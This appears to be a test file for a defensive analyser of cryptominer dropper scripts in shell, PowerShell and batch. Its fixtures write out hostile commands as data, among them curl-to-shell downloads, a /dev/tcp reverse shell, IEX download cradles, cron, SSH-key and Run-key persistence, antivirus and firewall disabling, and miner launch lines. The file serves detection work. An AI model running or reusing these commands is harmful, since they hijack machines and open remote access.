import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { XMR } from '../../../wallets/test-helpers/fixtures.ts';
import { defaultIntelView } from '../scan.ts';
import { analyseScript } from './analyse.ts';
import { LIMITS } from './model.ts';
import { readScript, sniffLang } from './read.ts';
import { rolesOf } from './roles.ts';
import { parseShell, shellParserLoaded } from './shell.ts';

const iv = defaultIntelView();
const W = XMR.generalFund;
const R = XMR.corpusProxyDonation;

const roles = (src: string, lang: 'sh' | 'ps1' | 'vbs' | 'bat' = 'sh') =>
  readScript(src, lang).statements.flatMap((s) => rolesOf(s, iv).map((r) => ({ line: s.line, ...r })));

describe('shell reader', () => {
  it('loads tree-sitter-bash (CI must not silently fall back to the tokenizer)', () => {
    assert.equal(shellParserLoaded, true);
  });

  it('resolves assignments, splits unquoted expansions and reads heredoc bodies', () => {
    const st = parseShell(
      'WGET="wget -q -O"\nDIR=/tmp\nURL=http://198.51.100.1/k\n$WGET $DIR/k $URL\ncat > /etc/x.service <<EOF\nExecStart=$DIR/k\nEOF\n',
    )!;
    const cmd = st.find((s) => s.cmds[0]?.argv[0] === 'wget')!;
    assert.deepEqual(cmd.cmds[0]!.argv, ['wget', '-q', '-O', '/tmp/k', 'http://198.51.100.1/k']);
    assert.equal(cmd.line, 4);
    const cat = st.find((s) => s.cmds[0]?.argv[0] === 'cat')!;
    assert.deepEqual(
      cat.redirects.map((r) => [r.op, r.target]),
      [
        ['>', '/etc/x.service'],
        ['<', '<<'],
      ],
    );
    assert.equal(cat.redirects[1]!.body, 'ExecStart=/tmp/k\n');
  });

  it('keeps a pipeline and the next redirecting line apart (tree-sitter-bash quirk)', () => {
    const st = parseShell(`crontab -l | sed '/x/d' | crontab -\necho "0.0.0.0 h" >> /etc/hosts\n`)!;
    assert.deepEqual(
      st.map((s) => s.cmds.map((c) => c.argv[0])),
      [['crontab', 'sed', 'crontab'], ['echo']],
    );
    assert.deepEqual(st[1]!.redirects, [{ op: '>>', target: '/etc/hosts' }]);
  });

  it('falls back to the tokenizer past the parse limit and still reads statements', () => {
    const big = `${'# pad\n'.repeat(LIMITS.parseBytes / 6 + 10)}curl -s http://198.51.100.2/x | sh\n`;
    const r = readScript(big, 'sh');
    assert.equal(r.parsedBy, 'tokenizer');
    assert.ok(roles(big).some((x) => x.kind === 'download'));
  });
});

describe('hidden layers', () => {
  it('decodes base64 piped to a shell, bounded in depth', () => {
    let s = `curl -s http://198.51.100.3/x -o /tmp/x; /tmp/x -o pool.supportxmr.com:443 -u ${W}`;
    for (let i = 0; i < 3; i++) s = `echo ${Buffer.from(s).toString('base64')} | base64 -d | bash`;
    const a = analyseScript(s, 'sh', iv);
    assert.deepEqual(
      a.layers.map((l) => [l.via, l.depth]),
      [
        ['base64', 1],
        ['base64', 2],
        ['base64', 3],
      ],
    );
    assert.ok(a.own.pools.has('pool.supportxmr.com:443'));
    assert.ok(a.own.wallets.has(W));
    // Nested deeper than the limit: the innermost layer is not read.
    let deep = 'echo hi';
    for (let i = 0; i < LIMITS.depth + 2; i++)
      deep = `echo ${Buffer.from(deep).toString('base64')} | base64 -d | sh`;
    assert.equal(Math.max(...analyseScript(deep, 'sh', iv).layers.map((l) => l.depth)), LIMITS.depth);
  });

  it('decodes powershell -e (UTF-16LE) inside batch and python -c inside shell', () => {
    const ps = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')";
    const bat = `@echo off\r\npowershell -nop -w hidden -e ${Buffer.from(ps, 'utf16le').toString('base64')}\r\n`;
    const a = analyseScript(bat, 'bat', iv);
    assert.ok(a.layers.some((l) => l.via === 'powershell -e'));
    assert.ok(a.own.urls.has('http://198.51.100.4/a.ps1'));
    const py = `python3 -c "import os; os.system('curl -s http://198.51.100.5/y | sh')"`;
    assert.ok(analyseScript(py, 'sh', iv).own.urls.has('http://198.51.100.5/y'));
  });

  it('types a file by content: a shell dropper without shebang, VBScript, batch; a README is not a script', () => {
    assert.equal(
      sniffLang('cd /tmp; wget http://198.51.100.6/x -O x\nchmod +x x\n./x 2>/dev/null &\n'),
      'sh',
    );
    assert.equal(sniffLang('Set o = CreateObject("WScript.Shell")\no.Run "x.exe", 0\n'), 'vbs');
    assert.equal(sniffLang('@echo off\r\nset D=%TEMP%\\x\r\n'), 'bat');
    assert.equal(
      sniffLang('# Install\n\nRun `curl -fsSL https://example.org/install | sh` to install.\n'),
      undefined,
    );
  });
});

describe('roles', () => {
  it('names the rival-removal forms droppers use', () => {
    const src = [
      "ps aux | grep -v grep | grep 'xmr.crypto-pool.fr' | awk '{print $2}' | xargs -I % kill -9 %",
      "netstat -anp | grep :3333 | awk '{print $7}' | xargs kill -9",
      "crontab -l | sed '/minexmr/d' | crontab -",
      "docker ps | grep pocosow | awk '{print $1}' | xargs -I % docker rm -f %",
      'echo "0.0.0.0 pool.minexmr.com" >> /etc/hosts',
      'iptables -A OUTPUT -d xmr.f2pool.com -j DROP',
      'kill -9 $(pgrep -f kdevtmpfsi)',
      'taskkill /f /im xmrig.exe',
    ].join('\n');
    const r = roles(src).filter((x) => x.kind === 'rival');
    assert.deepEqual(
      r.map((x) => [x.line, x.kind === 'rival' && x.how]),
      [
        [1, 'kill'],
        [2, 'port-kill'],
        [3, 'cron-clean'],
        [4, 'container'],
        [5, 'hosts'],
        [6, 'firewall'],
        [7, 'kill'],
        [8, 'kill'],
      ],
    );
  });

  it('does not call an admin restart or a hosts entry for the LAN a rival removal', () => {
    const src = [
      "pgrep -f 'node /opt/app/server.js' | xargs -r kill -HUP",
      'echo "10.0.0.7 db.internal" >> /etc/hosts',
      'curl -fsS http://127.0.0.1:8080/healthz',
    ].join('\n');
    const r = roles(src);
    // The admin's own restart is a kill pipeline, but it names no miner: nothing of it is mining.
    const a = analyseScript(src, 'sh', iv);
    assert.equal(a.rivals.pools.size + a.rivals.wallets.size + a.rivals.families.size, 0);
    assert.ok(!r.some((x) => x.kind === 'rival' && x.how === 'hosts'));
    assert.ok(!r.some((x) => x.kind === 'download'), 'a loopback URL is not a download');
  });

  it('names persistence kinds, evasion, spreading and reverse shells', () => {
    const kinds = roles(
      [
        '(crontab -l; echo "* * * * * curl -s http://198.51.100.7/c|sh") | crontab -',
        'echo /usr/lib/libx.so > /etc/ld.so.preload',
        'echo "ssh-rsa AAAAB3Nza x" >> /root/.ssh/authorized_keys',
        'systemctl enable kworkers',
        'setenforce 0; ufw disable',
        'chattr +i /etc/cron.d/x',
        'touch -r /bin/ls /usr/bin/x',
        'for h in $(cat ~/.ssh/known_hosts); do ssh -oStrictHostKeyChecking=no $h id; done',
        'bash -i >& /dev/tcp/198.51.100.8/4444 0>&1',
      ].join('\n'),
    ).map((x) => `${x.kind}:${'how' in x ? x.how : ''}`);
    for (const k of [
      'persistence:cron',
      'persistence:ld-preload',
      'persistence:ssh-key',
      'persistence:systemd',
      'evasion:selinux',
      'evasion:firewall',
      'evasion:chattr',
      'evasion:timestomp',
      'spread:ssh',
      'revshell:',
    ])
      assert.ok(kinds.includes(k), `${k} in ${kinds.join(' ')}`);
  });
});

describe('attribution', () => {
  it('keeps pool logins and workers as such', () => {
    const a = analyseScript(
      [
        './m -o xmr.pool.minergate.com:45700 -u someone@example.org -p x',
        `./m -o pool.supportxmr.com:443 -u ${W}.edge7 -p worker1`,
        './m -o stratum+tcp://xmr.2miners.com:2222 -u acct9 --rig-id rig3 -a rx/0 -t 4',
      ].join('\n'),
      'sh',
      iv,
    );
    assert.deepEqual([...a.own.accounts].sort(), ['acct9', 'someone@example.org']);
    assert.deepEqual([...a.own.workers].sort(), ['edge7', 'rig3', 'worker1']);
    assert.deepEqual([...a.own.wallets.keys()], [W]);
    assert.deepEqual([...a.own.algos], ['rx/0']);
  });

  it('puts a kill list looped over on the rival side, and a block-explorer address in dead drops', () => {
    const a = analyseScript(
      [
        `L="${R} pool.minexmr.com"`,
        "for x in $L; do ps aux | grep $x | awk '{print $2}' | xargs kill -9; done",
        'curl -s https://blockchain.info/q/addressbalance/1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa',
        `nohup ./m -o pool.supportxmr.com:443 -u ${W} &`,
      ].join('\n'),
      'sh',
      iv,
    );
    assert.deepEqual([...a.own.wallets.keys()], [W]);
    assert.deepEqual([...a.own.pools.keys()], ['pool.supportxmr.com:443']);
    assert.ok(a.rivals.wallets.has(R));
    assert.ok(a.rivals.pools.has('pool.minexmr.com'));
    assert.deepEqual(a.deaddrops, ['1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa']);
  });

  it('takes families from the campaign own markers, not from what it deletes', () => {
    const a = analyseScript(
      'pkill -f kinsing; rm -rf /tmp/kdevtmpfsi\ncurl -s http://teamtnt.red/x | bash\n',
      'sh',
      iv,
    );
    assert.deepEqual([...a.own.families.keys()], ['teamtnt']);
    assert.ok(a.rivals.families.has('kinsing'));
  });
});

describe('hostile input', () => {
  it('stays bounded on nesting, binary junk and decode bombs', () => {
    const nested = `${'$('.repeat(3000)}echo x${')'.repeat(3000)}\n`;
    const subshells = `${'('.repeat(3000)}curl -s http://198.51.100.9/x | sh${')'.repeat(3000)}\n`;
    const junk = Buffer.from(Array.from({ length: 200_000 }, (_, i) => (i * 2654435761) & 0xff)).toString(
      'latin1',
    );
    let bomb = 'echo hi';
    for (let i = 0; i < 12; i++)
      bomb = `echo ${Buffer.from(`${bomb}\n${bomb}`).toString('base64')} | base64 -d | sh`;
    for (const src of [nested, subshells, junk, bomb]) {
      let a: ReturnType<typeof analyseScript> | undefined;
      try {
        a = analyseScript(src, 'sh', iv);
      } catch (e) {
        // Only a stack overflow may escape (files.ts falls back to the line rules then).
        assert.ok(e instanceof RangeError, String(e));
        continue;
      }
      assert.ok(a.statements <= LIMITS.statements);
      assert.ok(a.layers.reduce((n, l) => n + l.bytes, 0) <= LIMITS.decodedBytes);
    }
  });
});

describe('PowerShell', () => {
  it('reads a LemonDuck-style installer: rival processes, Defender and firewall off, task and Run key commands', () => {
    const ps = [
      "$us = @('t.amynx.com')",
      'Stop-Process -Name xmrig -Force',
      "Get-Process | Where-Object { $_.Path -like '*kdevtmpfsi*' } | Stop-Process -Force",
      'Set-MpPreference -DisableRealtimeMonitoring $true',
      'netsh advfirewall set allprofiles state off',
      "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://t.amynx.com/b.jsp')\"",
      "Register-ScheduledTask -TaskName 'Updater' -Action $a",
      "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name upd -Value 'C:\\ProgramData\\m.exe -o pool.supportxmr.com:443 -u someone@example.org'",
    ].join('\r\n');
    const a = analyseScript(ps, 'ps1', iv);
    assert.ok(a.rivals.names.has('xmrig') && a.rivals.names.has('kdevtmpfsi'));
    assert.deepEqual([...a.own.families.keys()], ['lemonduck']);
    assert.ok(a.own.pools.has('pool.supportxmr.com:443'));
    assert.ok(a.own.accounts.has('someone@example.org'));
    assert.ok(a.own.urls.has('http://t.amynx.com/b.jsp'));
    const kinds = a.roles.map((r) => `${r.role}:${r.how ?? ''}`);
    for (const k of [
      'evasion:antivirus',
      'evasion:firewall',
      'persistence:scheduled-task',
      'persistence:run-key',
    ])
      assert.ok(kinds.includes(k), `${k} in ${kinds.join(' ')}`);
  });
});
